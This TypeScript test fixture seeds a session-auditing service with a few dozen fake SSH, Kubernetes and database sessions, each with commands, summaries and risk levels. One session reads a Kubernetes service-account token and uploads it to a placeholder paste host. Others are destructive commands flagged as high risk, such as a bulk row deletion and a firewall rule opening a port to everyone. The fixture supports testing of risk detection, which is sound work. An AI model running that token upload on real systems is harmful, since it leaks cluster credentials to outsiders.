import { jsonText } from "../../src/database/json.ts";
import type { Summary } from "../../src/domain/summary.ts";
import type { Service } from "../../src/service.ts";

export interface Told {
  readonly id: string;
  readonly kind?: "ssh" | "k8s" | "db";
  readonly user?: string;
  readonly resource?: string;
  readonly labels?: Readonly<Record<string, string>>;
  readonly roles?: readonly string[];
  readonly day?: number;
  readonly title: string;
  readonly short?: string;
  readonly detailed?: string;
  readonly commands?: readonly string[];
  readonly risk?: Summary["riskLevel"];
}

// biome-ignore format: table
/** A few dozen sessions with what was said of them. */
export const corpus: readonly Told[] = [
  { id: "a1f0", user: "alice", resource: "web-1", day: 1, title: "Reloaded nginx", short: "Reloaded nginx after a change of its configuration", commands: ["sudo vim /etc/nginx/conf.d/tls.conf", "sudo nginx -s reload"], risk: "LOW", labels: { env: "prod", team: "web" } },
  { id: "a1f1", user: "alice", resource: "web-2", day: 2, title: "Rebooted the machine", short: "Rebooted web-2 for a new kernel", commands: ["sudo reboot"], risk: "MEDIUM", labels: { env: "prod", team: "web" } },
  { id: "a1f2", user: "alice", resource: "web-3", day: 3, title: "Looked at logs", short: "Read the journal of nginx and the access log", commands: ["journalctl -u nginx", "tail -f /var/log/nginx/access.log"], risk: "LOW", labels: { env: "staging", team: "web" } },
  { id: "b2e0", user: "bob", kind: "k8s", resource: "payments", day: 4, title: "Read a service-account token", short: "Read a token in a pod and tried to upload it", commands: ["cat /var/run/secrets/kubernetes.io/serviceaccount/token", "curl -F f=@token https://paste.example/upload"], risk: "CRITICAL", labels: { env: "prod", team: "payments" }, roles: ["access", "contractor"] },
  { id: "b2e1", user: "bob", kind: "k8s", resource: "payments", day: 5, title: "Scaled a deployment", short: "Scaled deployment checkout to four replicas", commands: ["kubectl scale deployment/checkout --replicas=4"], risk: "LOW", labels: { env: "prod", team: "payments" } },
  { id: "b2e2", user: "bob", kind: "k8s", resource: "orders", day: 6, title: "Described failing pods", short: "Looked for why pods of checkout crash", commands: ["kubectl describe pod checkout-7d9f", "kubectl logs checkout-7d9f"], risk: "LOW", labels: { env: "staging", team: "payments" } },
  { id: "c3d0", user: "carol", kind: "db", resource: "orders", day: 7, title: "Updated orders", short: "Updated 40 rows of the table orders", commands: ["UPDATE orders SET state = 'paid' WHERE id < 40"], risk: "MEDIUM", labels: { env: "prod" } },
  { id: "c3d1", user: "carol", kind: "db", resource: "crm", day: 8, title: "Erased rows", short: "Erased buyers without a purchase from the table contacts", commands: ["DELETE FROM contacts WHERE purchases = 0"], risk: "HIGH", labels: { env: "prod" } },
  { id: "c3d2", user: "carol", kind: "db", resource: "crm", day: 9, title: "Counted customers", short: "Counted customers by country", commands: ["SELECT country, count(*) FROM customers GROUP BY country"], risk: "LOW", labels: { env: "staging" } },
  { id: "d4c0", user: "dave", resource: "build-7", day: 10, title: "Installed packages", short: "Installed docker and its dependencies", commands: ["sudo apt-get install docker-ce"], risk: "MEDIUM", labels: { env: "ci" }, roles: ["access", "builder"] },
  { id: "d4c1", user: "dave", resource: "build-7", day: 11, title: "Opened a port", short: "Opened port 8443 in the firewall for everybody", commands: ["sudo iptables -A INPUT -p tcp --dport 8443 -j ACCEPT"], risk: "HIGH", labels: { env: "ci" }, roles: ["access", "builder"] },
  { id: "e5b0", user: "erin", resource: "db-backup", day: 12, title: "Took a snapshot", short: "Took a snapshot of the volume before an upgrade", commands: ["lvcreate -s -n before /dev/vg0/data"], risk: "LOW", labels: { env: "prod" } },
  { id: "e5b1", user: "erin", resource: "db-backup", day: 13, title: "Destroyed old archives", short: "Destroyed archives older than a year", commands: ["find /srv/archive -mtime +365 -exec rm {} ;"], risk: "HIGH", labels: { env: "prod" } },
  { id: "f6a0", user: "françois", resource: "mail", day: 14, title: "Ajouté un compte", short: "Ajouté le compte de Zoë à la boîte générale", commands: ["postfixadmin mailbox add zoe@example.org"], risk: "LOW", labels: { env: "prod" } },
  { id: "f6a1", user: "דוד", resource: "mail", day: 15, title: "שינה סיסמה", short: "שינה את הסיסמה של התיבה הכללית", risk: "MEDIUM", labels: { env: "prod" } },
  { id: "f6a2", user: "mika", resource: "mail", day: 16, title: "メール 設定", short: "🎉 設定 変更", risk: "LOW", labels: { env: "prod" } },
  { id: "9c0a4e7b-2d61", user: "grace", resource: "10.0.0.5", day: 17, title: "Changed sshd", short: "Forbade root to log in", commands: ["vi /etc/ssh/sshd_config", "systemctl restart sshd.service"], risk: "MEDIUM", labels: { env: "prod" } },
  { id: "9c0a4e7b-2d62", user: "grace", resource: "10.0.0.15", day: 18, title: "Nothing much", short: "Looked around and left", commands: ["ls", "pwd"], risk: "LOW", labels: { env: "prod" } },
  ...Array.from({ length: 12 }, (_, index): Told => (
    { id: `routine-${String(index).padStart(2, "0")}`, user: "ruth", resource: `node-${index}`, day: 19, title: "Routine check", short: `Checked disk and memory, round ${index}`, commands: ["df -h", "free -m"], risk: "LOW", labels: { env: "lab" } })),
];

/** Puts sessions with their summaries into the store. */
export async function putCorpus(
  { database, sessions }: Pick<Service, "database" | "sessions">,
  told = corpus,
): Promise<void> {
  await database.transaction(async (tx) => {
    for (const one of told) {
      const { id, kind = "ssh", user = "alice", resource = "web-1", labels = {}, roles = ["access"], day = 1 } = one;
      const fields = {
        ssh: { server_hostname: resource, server_labels: labels },
        k8s: { kubernetes_cluster: resource, kubernetes_labels: labels },
        db: { db_name: resource, db_service: resource, db_labels: labels },
      }[kind];
      const start = new Date(Date.UTC(2026, 9, day, 9));
      const endEvent = {
        event: kind === "db" ? "db.session.end" : "session.end",
        sid: id,
        user,
        user_roles: [...roles],
        interactive: true,
        participants: [user],
        session_start: start.toISOString(),
        session_stop: new Date(start.getTime() + 60_000).toISOString(),
        ...fields,
      };
      await sessions.ingest(tx, { kind, endEvent });
      await tx.query("UPDATE sessions SET state = 'done' WHERE id = $1", [id]);
      await tx.query(
        `INSERT INTO summaries (session_id, version, state, model_name, content, summary, finished)
         VALUES ($1, 1, 'done', 'm', $2, $3, now())`,
        [id, one.detailed ?? "", jsonText(summaryOf(one))],
      );
    }
  });
}

/** A summary that says this. */
export function summaryOf({
  title,
  short = title,
  detailed = short,
  commands = [],
  risk = "LOW",
}: Omit<Told, "id">): Summary {
  return {
    title,
    shortDescription: short,
    detailedDescription: detailed,
    riskLevel: risk,
    riskScore: 10,
    riskReasons: [],
    notableCommands: commands.map((command, entry) => ({
      entry,
      at: entry * 1000,
      end: entry * 1000 + 500,
      command,
      reason: "",
      category: "OTHER",
      riskLevel: undefined,
      tactics: ["NONE"],
      attackIds: [],
    })),
    suspicions: [],
    indicators: [],
    sensitiveItems: [],
    needsReview: [],
    activity: [],
    categories: [],
    files: [],
    hosts: [],
    tables: [],
    failures: [],
    unseenInput: [],
    structured: true,
    droppedClaims: 0,
    masks: {},
    parts: 1,
  };
}
